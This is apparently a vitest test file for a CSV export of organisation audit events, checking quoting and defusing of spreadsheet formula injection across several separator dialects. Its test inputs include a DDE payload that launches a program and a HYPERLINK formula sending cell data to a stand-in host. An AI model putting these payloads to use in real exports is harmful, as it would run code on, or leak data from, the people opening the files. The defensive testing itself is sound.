import type { Exported } from './event-csv.js'
import { describe, expect, it } from 'vitest'
import { eventsToCsv } from './event-csv.js'

const event: Exported = {
  code: 1500,
  type: 'OrganizationUser_Invited',
  at: '2026-03-01T12:00:00.120Z',
  clientName: 'Acme, Inc.',
  actor: { kind: 'ACCOUNT', name: 'Ada "the first"' },
  subject: { name: 'bo@acme.example' },
  details: {},
  ip: '192.0.2.1',
  deviceType: 9,
}
const sentence = ({ actor, subject, clientName }: Exported): string => `${actor.name} invited ${subject.name} to ${clientName}`
const device = (type: number): string => `device ${type}`

/** As a reader that bears everything: what stands behind a closing quote belongs to the cell. */
function read(csv: string, separator: string, quote: string): string[] {
  const cells = ['']
  let quoted = false
  let fresh = true
  for (const sign of csv) {
    if (!quoted && (sign === separator || sign === '\r' || sign === '\n')) {
      cells.push('')
      fresh = true
      continue
    }
    if (sign === quote && (quoted || fresh))
      quoted = !quoted
    else
      cells[cells.length - 1] += sign
    fresh = false
  }
  return cells
}

describe('the report of events', () => {
  it('has one line for each event under its heading, quoted where needed', () => {
    expect(eventsToCsv([event], sentence, device).split('\r\n')).toEqual([
      'message,type,code,date,client,actor,subject,ip,device',
      '"Ada ""the first"" invited bo@acme.example to Acme, Inc.",OrganizationUser_Invited,1500,2026-03-01T12:00:00.120Z,"Acme, Inc.","Ada ""the first""",bo@acme.example,192.0.2.1,device 9',
      '',
    ])
  })

  it.each([
    ['=HYPERLINK("x")', `'=HYPERLINK(""x"")`],
    ['+1', `'+1`],
    ['-1', `'-1`],
    ['@SUM(A1)', `'@SUM(A1)`],
    ['＝1', `'＝1`],
    [' =1', ` '=1`],
    ['\tx', `'\tx`],
    ['\rx', `'\rx`],
    ['\n=1', `\n'=1`],
    ['=1\nof Acme', `'=1\nof Acme`],
  ])('disarms what a spreadsheet would run: %j', (clientName, disarmed) => {
    expect(eventsToCsv([{ ...event, clientName }], sentence, device)).toContain(disarmed)
  })

  it.each([
    ['Acme;=cmd|\' /C calc\'!A0;', `"Acme;'=cmd|' /C calc'!A0;"`],
    ['Acme\t+1', `"Acme\t'+1"`],
    ['Acme; \t@SUM(A1)', `"Acme; \t'@SUM(A1)"`],
    ['Acme\n-1', `"Acme\n'-1"`],
    ['Acme; Birch', '"Acme; Birch"'],
  ])('is one cell, and no formula, to a spreadsheet whose separator is another: %j', (clientName, cell) => {
    expect(eventsToCsv([{ ...event, clientName }], sentence, device)).toContain(`,${cell},`)
  })

  it.each(['Acme;"=1+1;x', 'Acme;""=HYPERLINK("http://x.example/"&A1;"x");y', 'Acme; " "@SUM(A1)', 'Acme;"\t"-1', 'Acme\n"=1+1"', '"=1+1', 'Acme;'])(
    'begins no cell with a formula, whatever a reader takes for separator and quotes: %j',
    (name) => {
      const told = { ...event, clientName: name, actor: { ...event.actor, name }, subject: { name } }
      const csv = eventsToCsv([told, told], () => name, device)
      const dialects = [[',', '"'], [';', '"'], ['\t', '"'], [';', ''], ['\t', '']] as const
      const cells = dialects.flatMap(([separator, quote]) => read(csv, separator, quote))
      expect(cells.filter(cell => /^\s*[=+\-@]/.test(cell))).toEqual([])
    },
  )

  it('leaves out what is not known, and ends without events after the heading', () => {
    expect(eventsToCsv([{ ...event, clientName: null, ip: null, deviceType: null }], sentence, device))
      .toContain('Z,,"Ada ""the first""",bo@acme.example,,\r\n')
    expect(eventsToCsv([], sentence, device).trim()).toBe('message,type,code,date,client,actor,subject,ip,device')
  })
})
